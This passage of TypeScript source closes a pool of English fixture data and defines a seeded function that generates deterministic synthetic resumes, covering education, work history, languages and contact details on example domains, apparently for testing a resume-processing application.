    schools: ['Fudan University', 'Tongji University', 'Shanghai Jiao Tong University', 'East China Normal University', 'University of Manchester', 'Donghua University', 'Shanghai University of Finance and Economics'],
    colleges: ['Shanghai Urban Construction Vocational College', 'Songjiang Vocational College'],
    majors: ['Computer Science', 'Software Engineering', 'Accountancy', 'Economics', 'Mechanical Engineering', 'Electronic Engineering', 'Statistics', 'Business Administration'],
    orgs: ['Songjiang Smart Manufacturing Co., Ltd.', 'Jiuting Technology Ltd.', 'Sijing Freight Services Co., Ltd.', 'Harbour Point Consulting', 'Riverside Medical Devices Inc.'],
    titles: ['Software Engineer', 'Finance Assistant', 'Marketing Specialist', 'Operations Assistant', 'Mechanical Engineer', 'Business Analyst', 'Sales Representative'],
    skills: ['Python', 'Java', 'SQL', 'Excel', 'Data analysis', 'AutoCAD', 'Marketing', 'Accounting', 'Logistics', 'Project management', 'Photoshop', 'Linux', 'React', 'Supply chain management'],
    sentences: [
      'Prepared the weekly team report and followed up on open items.',
      'Helped the manager break quarterly goals into monthly plans.',
      'Kept client records up to date and answered routine questions.',
      'Piloted a new intake process and proposed three improvements.',
      'Coordinated the annual stock count with two other departments.',
      'Wrote onboarding notes and ran two knowledge sharing sessions.',
    ],
  },
};

/** A varied but deterministic resume: the same seed and language always give the same resume. */
export function randomFixtureResume(seed: number, lang: 'zh' | 'en'): FixtureResume {
  const rnd = seededRandom(seed * 2654435761 + (lang === 'zh' ? 1 : 2));
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const pickSome = <T>(xs: readonly T[], n: number): T[] => {
    const copy = [...xs];
    const out: T[] = [];
    while (out.length < n && copy.length > 0) out.push(copy.splice(Math.floor(rnd() * copy.length), 1)[0]!);
    return out;
  };
  const gradYear = 2018 + Math.floor(rnd() * 7);
  const degreeRoll = rnd();
  const degree: FixtureDegree = degreeRoll < 0.2 ? 'junior_college' : degreeRoll < 0.75 ? 'bachelor' : degreeRoll < 0.95 ? 'master' : 'doctorate';
  const p = lang === 'zh' ? POOLS.zh : POOLS.en;
  const education: FixtureEducation[] = [];
  const years = { junior_college: 3, bachelor: 4, master: 3, doctorate: 4 };
  education.push({ school: degree === 'junior_college' ? pick(p.colleges) : pick(p.schools), major: pick(p.majors), degree, startYear: gradYear - years[degree], endYear: gradYear });
  if (degree === 'master' || degree === 'doctorate') {
    const start = gradYear - years[degree];
    education.push({ school: pick(p.schools), major: pick(p.majors), degree: 'bachelor', startYear: start - 4, endYear: start });
  }
  const experience: FixtureExperience[] = [];
  const jobs = 1 + Math.floor(rnd() * 3);
  let year = gradYear;
  for (let i = 0; i < jobs; i++) {
    const startMonth = 1 + Math.floor(rnd() * 12);
    const last = i === jobs - 1;
    const endYear = year + 1 + Math.floor(rnd() * 2);
    experience.push({
      kind: i === 0 && rnd() < 0.5 ? 'internship' : 'work',
      organisation: pick(p.orgs),
      title: pick(p.titles),
      start: `${year}-${String(startMonth).padStart(2, '0')}`,
      end: last ? null : `${endYear}-${String(1 + Math.floor(rnd() * 12)).padStart(2, '0')}`,
      description: pickSome(p.sentences, 1 + Math.floor(rnd() * 3)).join('\n'),
    });
    year = endYear;
  }
  experience.reverse();
  const languages: FixtureLanguage[] = [];
  if (lang === 'zh') {
    languages.push({ language: 'english', level: pick(['CET-4', 'CET-6']) });
    if (rnd() < 0.3) languages.push({ language: 'japanese', level: pick(['JLPT N1', 'JLPT N2', 'JLPT N3']) });
  } else {
    languages.push({ language: 'english', level: pick(['IELTS 6.5', 'IELTS 7.0', 'TOEFL 102', 'CET-6', 'Fluent']) });
    languages.push({ language: 'mandarin', level: 'Native' });
  }
  const name = lang === 'zh' ? pick(POOLS.zh.surnames) + pick(POOLS.zh.given) : `${pick(POOLS.en.first)} ${pick(POOLS.en.last)}`;
  const local = lang === 'zh' ? `user${seed}` : name.toLowerCase().replace(/\s+/g, '.') + seed;
  const phone = `1${pick(['3', '5', '7', '8', '9'])}${String(Math.floor(rnd() * 1e9)).padStart(9, '0')}`;
  return {
    lang,
    name,
    phone,
    email: `${local}@${pick(['example.com', 'mail.example.cn', 'example.org'])}`,
    education,
    skills: pickSome(p.skills, 3 + Math.floor(rnd() * 4)),
    experience,
    languages,
  };
}
